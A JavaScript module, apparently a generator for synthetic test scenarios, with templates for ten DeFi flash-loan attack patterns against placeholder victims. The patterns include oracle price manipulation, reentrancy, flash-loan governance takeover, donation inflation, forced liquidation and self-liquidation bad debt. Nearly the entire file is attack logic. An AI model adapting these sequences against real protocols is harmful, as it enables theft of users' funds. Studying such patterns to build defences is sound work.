// SPDX-License-Identifier: BSD-3-Clause
// What is done with borrowed funds, as attacks of the past were published, against victims that do not exist. A family is
//   victims    names of the addresses that it needs
//   state      its state, if any
//   hit        statements of the attack with `n` of $asset in hand
//   extra      further functions; reenter: statements run when ether arrives

const swapIn = (c, pair, amount) =>
	c.call(pair, "swap(uint256,uint256,address,bytes)", `uint256(0), ${amount}, address(this), new bytes(0)`);
const swapBack = (c, pair, amount) =>
	c.call(pair, "swap(uint256,uint256,address,bytes)", `${amount}, uint256(0), address(this), new bytes(0)`);
const self = "address(this)";

export const FAMILIES = [
	{
		id: "pair_price",
		victims: ["$pool", "$bank", "$token"], // a lending market that prices collateral by a pair's reserves
		hit: (c) => `uint256 out = ${c.get("$pool", "getAmountOut(uint256,address)", "n / 2, $asset")};
		${c.call("$asset", "transfer(address,uint256)", "$pool, n / 2")}
		${swapIn(c, "$pool", "out")}
		${c.call("$token", "approve(address,uint256)", "$bank, ~uint256(0)")}
		${c.call("$bank", "deposit(address,uint256)", "$token, out / 10")}
		uint256 most = ${c.get("$bank", "maxBorrow(address,address)", "address(this), $asset")};
		${c.call("$bank", "borrow(address,uint256)", "$asset, most")}
		out = ${c.get("$token", "balanceOf(address)", self)};
		${c.call("$token", "transfer(address,uint256)", "$pool, out")}
		${swapBack(c, "$pool", "n / 2 - n / 100")}`,
	},
	{
		id: "reenter",
		victims: ["$bank"], // a bank that pays before it books
		state: "uint256 $left;",
		hit: (c) => `${c.call("$asset", "withdraw(uint256)", "n")}
		$left = 12;
		$send($bank, n, ${c.pack("deposit()", "")});
		${c.call("$bank", "withdraw(uint256)", "n")}
		$send($asset, address(this).balance, ${c.pack("deposit()", "")});`,
		reenter: (c) =>
			`if (msg.sender == $bank && $left > 0) { $left = $left - 1; ${c.call("$bank", "withdraw(uint256)", "address(this).balance / 2")} }`,
		needsSend: true,
	},
	{
		id: "governance",
		victims: ["$gov", "$stake"], // votes counted at once, executed in an emergency
		state: "uint32 $bip = 18;",
		hit: (c) => `${c.call("$asset", "approve(address,uint256)", "$stake, n")}
		${c.call("$stake", "deposit(address,uint256)", "$asset, n")}
		${c.call("$gov", "delegate(address)", self)}
		${c.call("$gov", "vote(uint32)", "$bip")}
		${c.call("$gov", "emergencyCommit(uint32)", "$bip")}
		${c.call("$stake", "withdraw(address,uint256)", "$asset, n")}
		uint256 gain = ${c.get("$asset", "balanceOf(address)", self)};
		require(gain > n);`,
	},
	{
		id: "donation",
		victims: ["$market", "$comp", "$other"], // an empty market whose exchange rate a transfer inflates
		hit: (c) => `${c.call("$asset", "approve(address,uint256)", "$market, n")}
		${c.call("$market", "mint(uint256)", "uint256(400000000)")}
		uint256 s = ${c.get("$market", "balanceOf(address)", self)};
		${c.call("$market", "redeem(uint256)", "s - 2")}
		s = ${c.get("$asset", "balanceOf(address)", self)};
		${c.call("$asset", "transfer(address,uint256)", "$market, s")}
		address[] memory list = new address[](1);
		list[0] = $market;
		${c.call("$comp", "enterMarkets(address[])", "list")}
		uint256 cash = ${c.get("$other", "getCash()", "")};
		${c.call("$other", "borrow(uint256)", "cash - 1")}
		${c.call("$market", "redeemUnderlying(uint256)", "s")}`,
	},
	{
		id: "liquidation",
		victims: ["$pool", "$bank", "$prey", "$token"], // push the price, seize a healthy position, pull it back
		hit: (c) => `uint256 part = n / 3;
		${c.call("$asset", "transfer(address,uint256)", "$pool, part")}
		${swapIn(c, "$pool", "part")}
		${c.call("$asset", "approve(address,uint256)", "$bank, ~uint256(0)")}
		for (uint256 i = 0; i < 3; i++) {
			uint256 debt = ${c.get("$bank", "borrowBalanceCurrent(address)", "$prey")};
			if (debt == 0) break;
			${c.call("$bank", "liquidateBorrow(address,uint256,address)", "$prey, debt / 2, $token")}
		}
		uint256 got = ${c.get("$token", "balanceOf(address)", self)};
		${c.call("$token", "redeem(uint256)", "got")}
		${swapBack(c, "$pool", "part")}`,
	},
	{
		id: "vault_share",
		victims: ["$vault", "$curve", "$lp"], // shares priced by a pool's virtual price in mid-flight
		hit: (c) => `${c.call("$asset", "approve(address,uint256)", "$curve, ~uint256(0)")}
		uint256[2] memory a;
		a[0] = n / 4;
		${c.call("$curve", "add_liquidity(uint256[2],uint256)", "a, uint256(0)")}
		uint256 lp = ${c.get("$lp", "balanceOf(address)", self)};
		${c.call("$lp", "approve(address,uint256)", "$vault, lp")}
		uint256 shares = ${c.get("$vault", "deposit(uint256,address)", "lp / 2, address(this)")};
		${c.call("$curve", "exchange(int128,int128,uint256,uint256)", "int128(0), int128(1), n / 2, uint256(0)")}
		${c.call("$vault", "redeem(uint256,address,address)", "shares, address(this), address(this)")}
		lp = ${c.get("$lp", "balanceOf(address)", self)};
		${c.call("$curve", "remove_liquidity_one_coin(uint256,int128,uint256)", "lp, int128(0), uint256(0)")}`,
	},
	{
		id: "skim",
		victims: ["$pool", "$token"], // a token that burns out of the pair on transfer
		hit: (c) => `${c.call("$asset", "transfer(address,uint256)", "$pool, n / 10")}
		${swapIn(c, "$pool", "n / 11")}
		uint256 b = ${c.get("$token", "balanceOf(address)", self)};
		${c.call("$token", "transfer(address,uint256)", "$pool, b / 2")}
		for (uint256 i = 0; i < 10; i++) {
			${c.call("$pool", "skim(address)", "$pool")}
		}
		${c.call("$pool", "skim(address)", self)}
		${c.call("$pool", "sync()", "")}
		b = ${c.get("$token", "balanceOf(address)", self)};
		${c.call("$token", "transfer(address,uint256)", "$pool, b")}
		${swapBack(c, "$pool", "n / 5")}`,
	},
	{
		id: "snapshot",
		victims: ["$farm", "$reward", "$router"], // rewards paid by the balance of the moment
		hit: (c) => `${c.call("$asset", "approve(address,uint256)", "$farm, n")}
		${c.call("$farm", "stake(uint256)", "n")}
		${c.call("$farm", "updatePool(uint256)", "uint256(0)")}
		${c.call("$farm", "getReward()", "")}
		${c.call("$farm", "withdraw(uint256)", "n")}
		address[] memory way = new address[](2);
		way[0] = $reward; way[1] = $asset;
		uint256 r = ${c.get("$reward", "balanceOf(address)", self)};
		${c.call("$reward", "approve(address,uint256)", "$router, r")}
		${c.call("$router", "swapExactTokensForTokensSupportingFeeOnTransferTokens(uint256,uint256,address[],address,uint256)", "r, uint256(0), way, address(this), block.timestamp")}`,
	},
	{
		id: "mint_burn",
		victims: ["$stable", "$router", "$peg"], // minted at one price, burnt at another
		hit: (c) => `address[] memory way = new address[](2);
		way[0] = $asset; way[1] = $peg;
		${c.call("$asset", "approve(address,uint256)", "$router, n")}
		${c.call("$router", "swapExactTokensForTokens(uint256,uint256,address[],address,uint256)", "n / 2, uint256(1), way, address(this), block.timestamp + 60")}
		uint256 p = ${c.get("$peg", "balanceOf(address)", self)};
		${c.call("$peg", "approve(address,uint256)", "$stable, p")}
		uint256 m = ${c.get("$stable", "mint(address,uint256)", "$peg, p")};
		(way[0], way[1]) = (way[1], way[0]);
		${c.call("$peg", "approve(address,uint256)", "$router, ~uint256(0)")}
		${c.call("$stable", "burn(address,uint256)", "$asset, m")}`,
	},
	{
		id: "bad_debt",
		victims: ["$bank", "$eToken", "$dToken"], // gives collateral away, then liquidates itself
		hit: (c) => `${c.call("$asset", "approve(address,uint256)", "$bank, n")}
		${c.call("$eToken", "deposit(uint256,uint256)", "uint256(0), n * 2 / 3")}
		${c.call("$eToken", "mint(uint256,uint256)", "uint256(0), n * 6")}
		${c.call("$dToken", "repay(uint256,uint256)", "uint256(0), n / 3")}
		${c.call("$eToken", "mint(uint256,uint256)", "uint256(0), n * 6")}
		${c.call("$eToken", "donateToReserves(uint256,uint256)", "uint256(0), n * 3")}
		uint256 back = ${c.get("$bank", "liquidate(address,address,address)", "address(this), $asset, $asset")};
		${c.call("$eToken", "withdraw(uint256,uint256)", "uint256(0), back")}`,
	},
];
